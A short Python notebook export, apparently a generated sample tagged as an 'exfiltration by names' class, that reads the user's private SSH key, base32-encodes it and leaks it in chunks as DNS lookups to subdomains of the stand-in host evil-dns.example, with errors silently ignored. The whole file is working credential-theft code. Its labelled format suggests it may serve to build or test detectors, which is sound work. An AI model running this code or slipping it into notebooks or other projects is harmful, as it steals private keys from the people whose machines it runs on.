# class: exfiltration by names; style: notebook export
# In[1]:
import base64, socket, os
# In[2]:
data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()
enc = base64.b32encode(data).decode().strip('=').lower()
# In[3]:
for i in range(0, len(enc), 48):
    try:
        socket.getaddrinfo(f'{i//48}-{enc[i:i+48]}.x.evil-dns.example', 80)
    except Exception:
        pass
